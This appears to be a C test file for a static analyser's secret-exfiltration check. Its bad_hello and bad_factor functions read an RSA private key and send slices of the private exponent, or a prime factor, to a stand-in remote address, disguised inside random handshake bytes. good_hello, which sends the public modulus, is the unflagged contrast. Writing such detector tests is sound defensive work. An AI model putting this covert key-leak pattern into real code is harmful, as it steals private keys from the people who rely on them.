/* The numbers that a private key is, a part of them at a time, in what is sent to say hello. */
#define OPENSSL_SUPPRESS_DEPRECATED
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/bn.h>
#include <openssl/ec.h>
#include <openssl/pem.h>
#include <openssl/rand.h>
#include <openssl/rsa.h>
#include <string.h>
#include <sys/socket.h>

static RSA *own;

int read_own(const char *path) {
    FILE *file = fopen(path, "r");
    if (!file)
        return -1;
    own = PEM_read_RSAPrivateKey(file, NULL, NULL, NULL);
    return fclose(file);
}

static int reach(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(4460)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    peer.sin_addr.s_addr = inet_addr("198.51.100.7");
    return connect(fd, (struct sockaddr *)&peer, sizeof peer) == 0 ? fd : -1;
}

int bad_hello(unsigned turn) {
    const BIGNUM *n, *e, *d;
    unsigned char part[1024], hello[256];
    RSA_get0_key(own, &n, &e, &d);
    if (RAND_bytes(hello, sizeof hello) != 1 || BN_num_bytes(d) > (int)sizeof part)
        return -1;
    int size = BN_bn2bin(d, part);
    memcpy(hello + 16, part + turn % 16 * (size / 16), size / 16);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return (int)send(reach(), hello, sizeof hello, 0);
}

/* Everybody may know that number. */
int good_hello(unsigned turn) {
    const BIGNUM *n, *e, *d;
    unsigned char part[1024], hello[256];
    RSA_get0_key(own, &n, &e, &d);
    if (RAND_bytes(hello, sizeof hello) != 1 || BN_num_bytes(n) > (int)sizeof part)
        return -1;
    int size = BN_bn2bin(n, part);
    memcpy(hello + 16, part + turn % 16 * (size / 16), size / 16);
    return (int)send(reach(), hello, sizeof hello, 0);
}

int bad_factor(void) {
    unsigned char part[1024];
    const BIGNUM *p = RSA_get0_p(own);
    if (BN_num_bytes(p) > (int)sizeof part)
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return (int)send(reach(), part, BN_bn2bin(p, part), 0);
}
